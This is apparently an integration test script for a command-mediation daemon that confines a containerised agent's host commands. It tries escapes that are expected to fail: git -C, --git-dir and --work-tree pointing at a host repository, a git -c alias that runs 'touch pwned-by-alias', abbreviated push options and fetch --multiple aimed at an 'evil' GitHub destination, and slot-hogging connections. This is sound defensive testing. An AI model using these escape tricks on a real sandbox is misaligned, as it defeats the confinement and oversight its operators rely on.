#!/usr/bin/env bash
# sandbox-execd review findings, as an attacker in the container would try
# them: git's own -C / --git-dir / --work-tree taking a command out of the
# workspace that the daemon confined its cwd to; a credential in a host
# remote URL reaching the audit log; one container holding every request
# slot with connections that never send a frame; an abbreviated option or
# fetch --multiple hiding the real destination from the policy; a command
# approved after its client left. Runs in a network
# namespace with loopback only: no packet leaves the machine.
# shellcheck disable=SC2119 # execd_conf/execd_start take optional arguments
set -uo pipefail
. "$SOURCE_DIR/tests/support/tap.sh"
tap_require_root
if [ -z "${EXECD_IN_NETNS:-}" ]; then
	exec unshare --net env EXECD_IN_NETNS=1 "$0" "$@"
fi
ip link set lo up
# shellcheck source=tests/integration/execd-common.sh
. "$SOURCE_DIR/tests/integration/execd-common.sh"
execd_reexec_in_ns "$@"
execd_setup
DENIED=120
REFUSED=123

ln -s "$WRAPPER" "$T/bin/terraform"
execd_conf "max_concurrent = 4" "max_concurrent_per_peer = 2" "request_read_timeout_ms = 15000" \
	"tool terraform = /bin/echo"
execd_start || { echo "Bail out! daemon did not start"; cat "$T/daemon.log"; exit 1; }

g() { "${RUN_AS[@]}" env -i HOME="$T/home" /usr/bin/git "$@"; }
# A host repository outside the workspace, and a symlink to it inside.
g -C "$T/outside" init -q -b main .
g -C "$T/outside" -c user.name=t -c user.email=t@t commit -q --allow-empty -m host-secret-commit
ln -s "$T/outside" "$T/ws/link"
R=$T/ws/repo
mkdir -p "$R/d" && chown -R "$EXECD_USER:" "$R"
g -C "$R" init -q -b main .

wgit() { # wgit DIR ARGS...: git through the wrapper from DIR; output in $T/out, prints the status
	local st=0 dir=$1
	shift
	(cd "$dir" && as_user "$T/bin/git" "$@" >"$T/out" 2>"$T/err") || st=$?
	echo "$st"
}

# --- git -C, --git-dir, --work-tree ---------------------------------------
st=$(wgit "$T/ws" -C link log --oneline)
check "git -C through a workspace symlink to a host repo: refused" "$st" -eq $REFUSED
check "... nothing of the host repo was shown" "$(grep -c host-secret-commit "$T/out")" -eq 0
st=$(wgit "$T/ws" -C "$T/outside" log --oneline)
check "git -C with an absolute path outside every mapping: refused" "$st" -eq $REFUSED
check "... nothing of the host repo was shown" "$(grep -c host-secret-commit "$T/out")" -eq 0
st=$(wgit "$R" -C .. -C .. -C outside log --oneline)
check "git -C .. climbing out of the workspace: refused" "$st" -eq $REFUSED
st=$(wgit "$T/ws" --git-dir="$T/outside/.git" log --oneline)
check "git --git-dir=HOST: denied" "$st" -eq $DENIED
check "... nothing of the host repo was shown" "$(grep -c host-secret-commit "$T/out")" -eq 0
st=$(wgit "$T/ws" --git-dir link/.git log --oneline)
check "git --git-dir through a symlink: denied" "$st" -eq $DENIED
st=$(wgit "$R" --work-tree "$T/outside" status)
check "git --work-tree=HOST: denied" "$st" -eq $DENIED
st=$(wgit "$R" --no-pager --work-tree="$T/outside" status)
check "git --work-tree after another global option: denied" "$st" -eq $DENIED

st=$(wgit "$T/ws" -C repo -C d rev-parse --show-prefix)
check "git -C inside the workspace still works (relative, cumulative)" "$st" -eq 0
check "... and runs where -C points" "$(cat "$T/out")" = "d/"
st=$(wgit "$T/ws/sub" --no-pager -C "$R/d" rev-parse --show-prefix)
check "git -C with an absolute workspace path works" "$st" -eq 0
check "... and runs there" "$(cat "$T/out")" = "d/"
check "the audit records the -C the agent asked for and the effective cwd" \
	"$(grep '"type":"decision"' "$AUDIT" | tail -n 1 | grep -c "\"host_cwd\":\"$R/d\".*\"-C\"\\|\"-C\".*\"host_cwd\":\"$R/d\"")" -eq 1
st=0
(cd "$T/ws" && as_user "$T/bin/terraform" -chdir=link output >"$T/out" 2>&1) || st=$?
check "terraform -chdir=DIR (same escape as git -C): denied" "$st" -eq $DENIED
st=0
(cd "$T/ws" && as_user "$T/bin/terraform" plan -chdir=x >"$T/out" 2>&1) || st=$?
check "... but -chdir= after the subcommand is an ordinary argument" "$st" -eq 0
st=$(wgit "$R" -c alias.x='!touch pwned-by-alias' x)
check "git -c (runs programs) is refused for every backend, allow_all included" "$st" -eq $DENIED
check "... and nothing ran" "$(test -e "$R/pwned-by-alias" && echo ran || echo no)" = no
st=$(wgit "$R" -C "" rev-parse --show-prefix)
check "git -C '' is a no-op as in git" "$st" -eq 0
st=$(wgit "$R" -C)
check "git -C without a value: refused, not run" "$st" -ne 0
# A submodule pushed to its own URL by the repository's submodule.recurse:
# local bare repositories only (the policy saw only the superproject's).
B=$T/ws/bare-sub
A=$T/ws/bare-super
S=$T/ws/super
g init -q --bare -b main "$B"
g init -q --bare -b main "$A"
g clone -q "$B" "$T/ws/seed" 2>/dev/null
g -C "$T/ws/seed" -c user.name=t -c user.email=t@t commit -q --allow-empty -m seed
g -C "$T/ws/seed" push -q origin HEAD:main
g init -q -b main "$S"
g -C "$S" -c protocol.file.allow=always submodule add -q "$B" sm
g -C "$S/sm" -c user.name=t -c user.email=t@t commit -q --allow-empty -m only-in-submodule
g -C "$S" -c user.name=t -c user.email=t@t commit -q -am super
g -C "$S" remote add origin "$A"
g -C "$S" push -q origin main
g -C "$S/sm" -c user.name=t -c user.email=t@t commit -q --allow-empty -m second-in-submodule
g -C "$S" -c user.name=t -c user.email=t@t commit -q -am super2
g -C "$S" config submodule.recurse true
st=$(wgit "$S" push origin main)
check "push of the superproject runs" "$st" -eq 0
check "... and does not push the submodule to its own URL (repo submodule.recurse)" \
	"$(g -C "$B" log --oneline main | grep -c in-submodule)" -eq 0
g -C "$T/ws/seed" -c user.name=t -c user.email=t@t commit -q --allow-empty -m new-upstream
g -C "$T/ws/seed" push -q origin HEAD:main
st=$(wgit "$S" fetch origin)
check "fetch of the superproject runs" "$st" -eq 0
check "... and does not fetch the submodule from its own URL (repo submodule.recurse)" \
	"$(g -C "$S/sm" log --oneline origin/main | grep -c new-upstream)" -eq 0
audit_verify
check "the audit chain verifies" $? -eq 0

execd_stop
rm -f "$AUDIT"

# --- a credential in the remote URL does not reach the audit log ----------
printf '%s\n' 'allow git status' 'allow git fetch,push dest=github.com/acme/*' >"$T/policy.conf"
execd_conf "backend = static" "policy_file = $T/policy.conf" "max_concurrent = 4" \
	"max_concurrent_per_peer = 2" "request_read_timeout_ms = 15000"
execd_start || { echo "Bail out! daemon did not start (static)"; cat "$T/daemon.log"; exit 1; }
g -C "$R" remote add origin https://x-access-token:ghp_SECRETSECRET@github.com/other/x.git
st=$(wgit "$R" push origin main)
check "push with a credential in the host's remote URL: denied by the policy" "$st" -eq $DENIED
check "... the decision record has the destination" \
	"$(grep '"type":"decision"' "$AUDIT" | tail -n 1 | grep -c '"destination":"https://github.com/other/x.git"')" -eq 1
check "... and no credential anywhere in the audit log" "$(grep -c SECRETSECRET "$AUDIT")" -eq 0
check "... nor in the daemon's log" "$(grep -c SECRETSECRET "$T/daemon.log")" -eq 0
st=$(wgit "$R" push --push-o https://github.com/acme/x https://github.com/evil/x main)
check "push --push-o ACME EVIL (abbreviated option, git pushes to EVIL): denied" "$st" -eq $DENIED
st=$(wgit "$R" fetch --multiple https://github.com/acme/x https://github.com/evil/x)
check "fetch --multiple ACME EVIL: denied" "$st" -eq $DENIED
audit_verify
check "the audit chain verifies" $? -eq 0

# --- one container cannot hold every slot before authenticating -----------
# Container A: four connections that never send a frame (max_concurrent 4,
# per container 2). Container B (another pid namespace) must still be served.
holders=()
for i in 1 2 3 4; do
	"${RUN_AS[@]}" env -i PATH=/usr/bin:/bin python3 "$RAWCLIENT" "$SOCK" hold >"$T/hold$i" &
	holders+=($!)
done
for i in 1 2 3 4; do wait_until 5 grep -qs holding "$T/hold$i"; done
st=0
out=$(cd "$R" && unshare --pid --fork --mount-proc "${RUN_AS[@]}" env -i PATH="$T/bin:/usr/bin:/bin" \
	HOME="$T/home" SANDBOX_EXECD_SOCKET="$SOCK" SANDBOX_EXECD_TOKEN="$TOKEN" \
	"$T/bin/git" status 2>"$T/err") || st=$?
check "another container is served while one holds silent connections" "$st" -eq 0
check "... with git's output" "$(echo "$out" | grep -c '^On branch main')" -eq 1
exited() { local n=0 p; for p in "${holders[@]}"; do kill -0 "$p" 2>/dev/null || n=$((n + 1)); done; echo "$n"; }
wait_until 5 test "$(exited)" -ge 2
check "the silent container's connections beyond its share were answered at once" "$(exited)" -eq 2
kill "${holders[@]}" 2>/dev/null
wait "${holders[@]}" 2>/dev/null
execd_stop

# --- a client gone while the webhook deliberated: the command never starts --
python3 "$SOURCE_DIR/tests/support/webhook-server.py" "$T/port" "$T/webhook.log" &
server=$!
wait_until 10 test -s "$T/port"
execd_conf "backend = webhook" "webhook_url = http://127.0.0.1:$(cat "$T/port")/decide" \
	"webhook_timeout_ms = 1000" "webhook_poll_ms = 300" "decision_timeout_ms = 10000"
execd_start || { echo "Bail out! daemon did not start (webhook)"; cat "$T/daemon.log"; exit 1; }
(cd "$T/ws" && exec "${RUN_AS[@]}" env -i PATH="$T/bin:/usr/bin:/bin" HOME="$T/home" \
	SANDBOX_EXECD_SOCKET="$SOCK" SANDBOX_EXECD_TOKEN="$TOKEN" SANDBOX_REASON=pending \
	"$T/bin/sh" -c "touch '$T/ws/ran-after-leave'") &
client=$!
wait_until 10 grep -qs '"pending"' "$T/webhook.log"
kill -9 "$client"
wait "$client" 2>/dev/null
ok "the approval that came after the client left is audited as disconnected" \
	wait_until 10 grep -q '"outcome":"disconnected_before_start"' "$AUDIT"
check "... and the command never ran" "$(test -e "$T/ws/ran-after-leave" && echo ran || echo no)" = no
out=$(cd "$T/ws" && as_user env SANDBOX_REASON=pending "$T/bin/echo" still-served 2>&1)
check "a client that waits for the pending approval is served" "$out" = still-served
kill "$server" 2>/dev/null
wait "$server" 2>/dev/null
tap_done
